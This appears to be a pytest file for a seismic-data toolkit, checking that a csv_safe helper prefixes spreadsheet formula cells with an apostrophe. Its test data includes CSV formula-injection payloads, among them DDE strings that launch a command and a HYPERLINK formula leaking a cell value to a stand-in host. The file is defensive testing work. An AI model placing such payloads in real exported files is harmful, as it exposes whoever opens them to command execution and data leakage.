"""Issue 15 item 9: no CSV the project writes or offers carries a spreadsheet formula.

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR gets a leading ``'``
(`fsutil.csv_safe`); numbers stay numbers. The raw-header table of a real ESM record whose
header holds formulas, the runs table and the demo's flat file go through it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from seisgan_core.fsutil import csv_safe, csv_safe_frame

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_prefixes_are_neutralised(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+1e3", "42", "IT.AQG..HNE", "", 1.5, -2, None])
def test_numbers_and_plain_text_are_unchanged(value):
    assert csv_safe(value) == value


def test_frames_keep_numbers_and_neutralise_text():
    frame = pd.DataFrame({"name": ["=1+1", "AQG"], "pga": [-3.5, 2.0], "=col": ["a", "b"]})
    safe = csv_safe_frame(frame)
    assert safe["name"].tolist() == ["'=1+1", "AQG"]
    assert safe["pga"].tolist() == [-3.5, 2.0]
    assert list(safe.columns) == ["name", "pga", "'=col"]
    assert frame["name"].tolist() == ["=1+1", "AQG"]  # a copy


def test_raw_header_table_of_a_real_record_with_formulas(tmp_path):
    from seisgan_core.io.esm_ascii import read_esm_ascii
    from seisgan_core.viz.data import header_table
    from seisgan_testsupport.io_realdata import replace_line, write_real_esm_file

    path = write_real_esm_file(tmp_path / "IT.AQG..HNE.ASC")
    replace_line(path, "EVENT_NAME", "EVENT_NAME: =cmd|' /C calc'!A0")
    replace_line(path, "STATION_NAME", 'STATION_NAME: =HYPERLINK("http://x.invalid","a")')
    table = header_table(dict(read_esm_ascii(path).header))
    text = table.to_csv(index=False)
    rows = list(csv.reader(io.StringIO(text)))
    values = {field: value for field, value in rows[1:]}
    assert values["EVENT_NAME"] == "'=cmd|' /C calc'!A0"
    assert values["STATION_NAME"].startswith("'=HYPERLINK(")
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in values.values())
    assert values["STATION_CODE"] == "AQG"  # the rest as read


def test_runs_table_message_is_not_a_formula():
    from types import SimpleNamespace

    from seisgan_core.appstate import runs_table

    run = SimpleNamespace(
        path=Path("models/x"),
        config={"preset": "demo"},
        status={"state": "finished", "epoch": 1, "epochs": 1, "message": "=HYPERLINK(1)"},
        metrics=pd.DataFrame({"loss_critic": [-1.0], "loss_generator": [0.5]}),
        damaged=None,
    )
    table = runs_table([run])
    assert table["message"].tolist() == ["'=HYPERLINK(1)"]
    assert table["loss_critic"].tolist() == [-1.0]
